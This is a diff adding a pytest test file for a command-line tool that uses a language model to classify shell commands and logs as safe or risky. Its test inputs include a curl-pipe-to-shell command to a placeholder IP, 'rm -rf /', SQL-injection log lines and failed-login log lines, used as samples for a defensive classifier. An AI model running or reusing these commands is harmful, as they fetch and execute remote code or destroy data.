@@ -1,0 +1,257 @@
+"""`fwyy analyze` and `from fwyy_ollama import analyze`: one report, a JSON shape scripts can trust,
+exit statuses a pipeline can gate on (0 safe, 1 risky, 2 error), and clear messages for bad input.
+
+The Ollama path talks to tests/fake_ollama.py through the real client (a deterministic four-part
+reply); the local path runs llama.cpp on the demo GGUF for real.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import jsonschema
+import pytest
+
+from fwyy_ollama.analysis import (
+    MAX_READ_BYTES,
+    AnalysisResult,
+    analyze_file,
+    decode_input,
+    prepare_analysis,
+    read_input,
+    result_json_schema,
+)
+from fwyy_ollama.errors import FwyyError
+from fwyy_ollama.prompts import system_prompt
+from fwyy_ollama.report import Label, Report, report_json_schema
+from fwyy_ollama.runtime import LocalBackend, demo_gguf
+from tests.fake_ollama import DEFAULT_REPLY, FakeOllama, fake_ollama_fixture  # noqa: F401
+
+FWYY = str(Path(sys.executable).with_name("fwyy"))
+SAFE_JSON = json.dumps(
+    {
+        "analysis": "Lists the files of the current folder.",
+        "label": "safe",
+        "risk": "none",
+        "solution": "Nothing to fix.",
+    }
+)
+
+
+def fwyy(
+    *args: str, stdin: bytes | None = None, host: str = "http://127.0.0.1:9"
+) -> subprocess.CompletedProcess:
+    env = dict(os.environ, OLLAMA_HOST=host, OMP_NUM_THREADS="1", COLUMNS="200")
+    return subprocess.run([FWYY, *args], input=stdin, capture_output=True, env=env, timeout=300)
+
+
+def as_json(proc: subprocess.CompletedProcess) -> dict:
+    out = json.loads(proc.stdout)
+    jsonschema.validate(out, result_json_schema())
+    return out
+
+
+@pytest.fixture
+def script(tmp_path: Path) -> Path:
+    path = tmp_path / "install.sh"
+    path.write_text("#!/bin/sh\ncurl http://198.51.100.7/x.sh | sh\n")
+    return path
+
+
+def test_schema_is_a_valid_json_schema() -> None:
+    jsonschema.Draft202012Validator.check_schema(result_json_schema())
+    ok = AnalysisResult(
+        report=Report("a", Label.HIGH, "r", "s"), raw="", model="m", backend="local", latency_s=0.5
+    ).to_json()
+    jsonschema.validate(ok, result_json_schema())
+    # The report part of a success is exactly the report's own schema.
+    jsonschema.validate({k: ok[k] for k in ("analysis", "label", "risk", "solution")}, report_json_schema())
+    with pytest.raises(jsonschema.ValidationError):
+        jsonschema.validate({**ok, "label": "severe"}, result_json_schema())
+    with pytest.raises(jsonschema.ValidationError):  # a success may not carry an error
+        jsonschema.validate({**ok, "error": "x"}, result_json_schema())
+
+
+def test_risky_report_exits_1_and_asks_ollama_for_structured_output(
+    fake_ollama: FakeOllama, script: Path
+) -> None:
+    fake_ollama.add_model("fwyy-qwen2")
+    proc = fwyy("analyze", str(script), "--json", "--model", "fwyy-qwen2", host=fake_ollama.host)
+    assert proc.returncode == 1, proc.stderr
+    out = as_json(proc)
+    assert out["label"] == "high" and out["backend"] == "ollama" and out["model"] == "fwyy-qwen2"
+    assert out["analysis"].startswith("The command pipes") and out["error"] is None
+    assert out["latency_s"] >= 0 and out["truncated"] is False
+    body = fake_ollama.requests_to("/api/chat")[-1].body
+    assert body["format"] == report_json_schema()
+    system, user = body["messages"]
+    assert system == {"role": "system", "content": system_prompt("zh")}  # fwyy-qwen2 is a zh profile
+    assert user["role"] == "user" and "curl http://198.51.100.7/x.sh | sh" in user["content"]
+
+
+def test_safe_json_answer_exits_0_and_plain_output_shows_the_report(
+    fake_ollama: FakeOllama, tmp_path: Path
+) -> None:
+    fake_ollama.add_model("fwyy-llama3")
+    fake_ollama.reply = SAFE_JSON
+    (tmp_path / "cmd.txt").write_text("ls -la\n")
+    proc = fwyy("analyze", str(tmp_path / "cmd.txt"), "--json", "-m", "fwyy-llama3", host=fake_ollama.host)
+    assert proc.returncode == 0, proc.stderr
+    assert as_json(proc)["label"] == "safe"
+    system = fake_ollama.requests_to("/api/chat")[-1].body["messages"][0]["content"]
+    assert system == system_prompt("en")  # fwyy-llama3 is an en profile
+    proc = fwyy("analyze", "-", "-m", "fwyy-llama3", "--lang", "zh", stdin=b"ls -la\n", host=fake_ollama.host)
+    assert proc.returncode == 0
+    shown = proc.stdout.decode()
+    assert "SAFE" in shown and "Lists the files" in shown and "标签" in shown
+
+
+def test_answer_not_in_the_format_exits_2_with_the_error_shape(fake_ollama: FakeOllama, script: Path) -> None:
+    fake_ollama.add_model("fwyy-qwen2")
+    fake_ollama.reply = "I think this is probably fine, but who knows."
+    proc = fwyy("analyze", str(script), "--json", host=fake_ollama.host)
+    assert proc.returncode == 2
+    out = as_json(proc)
+    assert out["label"] is None and out["raw"] == fake_ollama.reply
+    assert "did not answer in the four-part report format" in out["error"]
+    proc = fwyy("analyze", str(script), host=fake_ollama.host)
+    assert proc.returncode == 2
+    assert "did not answer in the four-part report format" in proc.stderr.decode()
+    assert "who knows" in proc.stderr.decode()  # the raw answer is shown for the person to judge
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        (b"", "is empty"),
+        (b"  \n\t\n", "is empty"),
+        (b"\x7fELF\x02\x01\x01\x00\x00\x00" + bytes(range(256)), "binary file"),
+        (bytes(range(1, 32)) * 20, "binary file"),
+        (b"\xff\xfe\xfa\xfb" * 100, "neither UTF-8 nor GB18030"),
+    ],
+)
+def test_bad_input_exits_2_before_any_model(tmp_path: Path, content: bytes, message: str) -> None:
+    path = tmp_path / "input"
+    path.write_bytes(content)
+    for args in ([str(path)], ["-"]):
+        proc = fwyy("analyze", *args, "--backend", "ollama", stdin=content)  # no daemon: never reached
+        assert proc.returncode == 2
+        err = " ".join(proc.stderr.decode().split())
+        assert message in err and "Traceback" not in err
+        proc = fwyy("analyze", *args, "--json", "--backend", "ollama", stdin=content)
+        assert proc.returncode == 2 and message in as_json(proc)["error"]
+
+
+def test_missing_file_folder_and_daemon_down_exit_2(tmp_path: Path, script: Path) -> None:
+    proc = fwyy("analyze", str(tmp_path / "nope.txt"))
+    assert proc.returncode == 2 and "no such file" in proc.stderr.decode()
+    proc = fwyy("analyze", str(tmp_path))
+    assert proc.returncode == 2 and "is a folder" in proc.stderr.decode()
+    proc = fwyy("analyze", str(script), "--backend", "ollama", "--json")
+    assert proc.returncode == 2  # a down daemon must not read as "risky" (1)
+    out = as_json(proc)
+    assert "cannot reach the Ollama daemon at http://127.0.0.1:9" in out["error"]
+
+
+def test_text_encodings_are_read_and_nothing_is_executed(tmp_path: Path) -> None:
+    assert decode_input("rm -rf / # 删除所有文件".encode("gb18030")) == "rm -rf / # 删除所有文件"
+    assert decode_input("\ufeffutf-8 with BOM".encode()) == "utf-8 with BOM"
+    marker = tmp_path / "RAN"
+    runnable = tmp_path / "run.sh"
+    runnable.write_text(f"#!/bin/sh\ntouch {marker}\n")
+    runnable.chmod(0o755)
+    text, longer = read_input(runnable)
+    assert text.startswith("#!/bin/sh") and not longer and not marker.exists()
+    # A file bigger than anything a context holds is read only in part; a cut multibyte char is fine.
+    big = tmp_path / "big.log"
+    big.write_bytes(b"a" * (MAX_READ_BYTES - 1) + "风".encode() + b"tail")
+    text, longer = read_input(big)
+    assert longer and len(text) == MAX_READ_BYTES - 1
+
+
+def test_python_api_returns_a_typed_report(fake_ollama: FakeOllama) -> None:
+    from fwyy_ollama import analyze
+
+    fake_ollama.add_model("fwyy-qwen2")
+    seen: list[str] = []
+    result = analyze("curl http://198.51.100.7/x.sh | sh", model="fwyy-qwen2", on_token=seen.append)
+    assert isinstance(result.report, Report) and result.label is Label.HIGH
+    assert result.exit_code == 1 and result.backend == "ollama" and result.error is None
+    assert len(seen) > 1 and "".join(seen) == result.raw == DEFAULT_REPLY
+    with pytest.raises(FwyyError, match="is empty") as info:
+        analyze("   ")
+    assert info.value.exit_code == 2
+
+
+def test_huge_input_is_cut_at_the_context_with_a_notice(fake_ollama: FakeOllama) -> None:
+    from fwyy_ollama import analyze
+
+    fake_ollama.add_model("fwyy-smollm2")  # num_ctx 2048 in its profile
+    log = "".join(
+        f"Nov 25 10:{i % 60:02d}:00 sshd[42]: Failed password for root from 203.0.113.{i % 250}\n"
+        for i in range(3000)
+    )
+    result = analyze(log, model="fwyy-smollm2")
+    assert result.truncated and "input truncated" in result.notice and "2048 tokens" in result.notice
+    sent = fake_ollama.requests_to("/api/chat")[-1].body["messages"][1]["content"]
+    assert len(sent) < len(log) / 5 and "[input truncated here" in sent
+    assert result.to_json()["truncated"] is True and result.label is Label.HIGH
+
+
+def test_local_backend_cuts_huge_input_exactly_to_fit(tmp_path: Path) -> None:
+
+    log = "".join(f"GET /index.php?id={i}' OR '1'='1 HTTP/1.1 200\n" for i in range(2000))
+    path = tmp_path / "access.log"
+    path.write_text(log)
+    # A small context keeps the prompt (and the test) short; the cut is the same code at any size.
+    with LocalBackend(demo_gguf(), n_ctx=768, n_threads=1, options={"temperature": 0.0}) as small:
+        result = analyze_file(path, backend=small, options={"num_predict": 4})
+        # llama.cpp raises when a prompt does not fit its context: this one did.
+        assert result.truncated and result.backend == "local" and result.raw
+        assert "768 tokens" in result.notice
+        # Room is kept for the answer (a quarter of the context here), and the prompt fills the
+        # rest up to a small margin for the chat template's tokens: the cut is not wasteful.
+        for lang in ("en", "zh"):
+            request = prepare_analysis(small, log, lang=lang)
+            prompt = sum(small.count_tokens(m["content"]) for m in request.messages)
+            assert 768 - 192 - 100 < prompt <= 768 - 192, (lang, prompt)
+        assert prepare_analysis(small, "ls -la").notice is None
+
+
+def test_cli_json_on_the_local_demo_validates(script: Path) -> None:
+    proc = fwyy(
+        "analyze",
+        str(script),
+        "--json",
+        "--backend",
+        "local",
+        "--threads",
+        "1",
+        "--ctx",
+        "2048",
+        "--max-tokens",
+        "48",
+    )
+    out = as_json(proc)
+    assert out["backend"] == "local" and out["model"] == "SmolLM2-135M-Instruct.Q4_1.gguf"
+    assert "demo GGUF" in out["source"]
+    # The untrained demo rarely writes the four parts; whichever it did, the status follows it.
+    if out["error"] is None:
+        assert proc.returncode == (0 if out["label"] == "safe" else 1)
+    else:
+        assert proc.returncode == 2 and out["raw"] is not None
+
+
+def test_the_instruction_is_one_the_model_was_trained_on() -> None:
+    from fwyy_ollama.analysis import INSTRUCTIONS, build_messages
+    from fwyy_ollama.resources import data_dir
+
+    taught = {json.loads(line)["instruction"] for line in (data_dir() / "security.train.jsonl").open()}
+    assert set(INSTRUCTIONS.values()) <= taught
+    system, user = build_messages("ls -la", "en")
+    # The same layout as training: instruction, blank line, input.
+    assert user["content"] == f"{INSTRUCTIONS['en']}\n\nls -la" and system["content"] == system_prompt("en")
